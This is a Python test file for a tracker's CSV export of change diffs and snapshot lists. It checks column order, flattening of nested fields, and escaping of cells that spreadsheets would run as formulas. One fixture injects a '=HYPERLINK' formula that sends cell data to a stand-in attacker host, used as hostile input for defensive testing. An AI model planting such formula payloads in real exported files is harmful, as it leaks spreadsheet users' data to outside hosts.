"""CSV of `diff` and `list` (and `upcoming`, in test_upcoming): one header row of the JSON's keys, one
row per change or snapshot, nested objects flattened, and no cell a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io
import json

import pytest

from reports import report
from tracker.spreadsheet import cell, csv_text

CONTRACT = ["jurisdiction", "topic", "from_id", "from_generated_at", "to_id", "to_generated_at", "category", "kind",
            "entity", "field", "old", "new", "material"]


@pytest.fixture
def history(cli, corpus):
    assert cli("ingest", "-q", str(corpus)).exit_code == 0
    return cli


def read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_diff_csv_has_one_row_per_change_under_the_contract_s_keys(history):
    r = history("diff", "--since", "1900-01-01", "--all", "--format", "csv")
    assert r.exit_code == 0, r.stderr
    rows = read(r.stdout)
    changes = json.loads(history("diff", "--since", "1900-01-01", "--all", "--format", "json").stdout)["changes"]
    assert len(rows) == len(changes) > 50
    assert list(rows[0])[:len(CONTRACT)] == CONTRACT
    for row, c in zip(rows, changes):
        assert row["from_generated_at"] == c["from"]["generated_at"] and row["to_id"] == str(c["to"]["id"])
        assert row["material"] == ("true" if c["material"] else "false")
        assert row["entity"].lstrip("'") == c["entity"]
        if isinstance(c["new"], dict):
            assert json.loads(row["new"]) == c["new"]


def test_an_empty_diff_is_a_header_row(history):
    r = history("diff", "--since", "2099-01-01", "--format", "csv")
    assert r.exit_code == 0 and r.stdout == ",".join(CONTRACT) + "\n"


def test_list_csv_matches_list_json(history, tmp_path):
    rows = read(history("list", "--format", "csv").stdout)
    listed = json.loads(history("list", "--format", "json").stdout)["snapshots"]
    assert [dict(r, id=int(r["id"])) for r in rows] == listed


def test_a_cell_that_would_be_a_formula_is_kept_as_text(cli, tmp_path):
    for n, at in enumerate(("2026-01-01T00:00:00Z", "2026-02-01T00:00:00Z")):
        (tmp_path / f"{n}.txt").write_text(report(at=at, regulators=[
            "Testland Financial Authority (TFA): Licenses and supervises crypto exchanges.[1]",
            *(['=HYPERLINK("http://evil.example/"&A1) (EVL): Supervises.[1]'] if n else [])]))
    assert cli("ingest", "-q", str(tmp_path / "0.txt"), str(tmp_path / "1.txt")).exit_code == 0
    rows = read(cli("diff", "--since", "2026-01-01", "--format", "csv").stdout)
    added = [r for r in rows if r["kind"] == "added"]
    assert added and all(r["entity"].startswith("'=") for r in added)
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+31 20 555", "'+31 20 555"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("plain", "plain"), (None, ""), (True, "true"), (7, "7"), ({"a": 1}, '{"a": 1}'),
], ids=["equals", "plus", "minus", "at", "tab", "plain", "null", "bool", "int", "object"])
def test_cells_are_written_as_a_spreadsheet_reads_them(value, written):
    assert cell(value) == written


def test_nested_from_and_to_become_columns_of_their_own():
    text = csv_text([{"a": 1, "from": {"id": 3, "generated_at": "x"}, "old": {"name": "n"}}])
    assert read(text) == [{"a": "1", "from_id": "3", "from_generated_at": "x", "old": '{"name": "n"}'}]
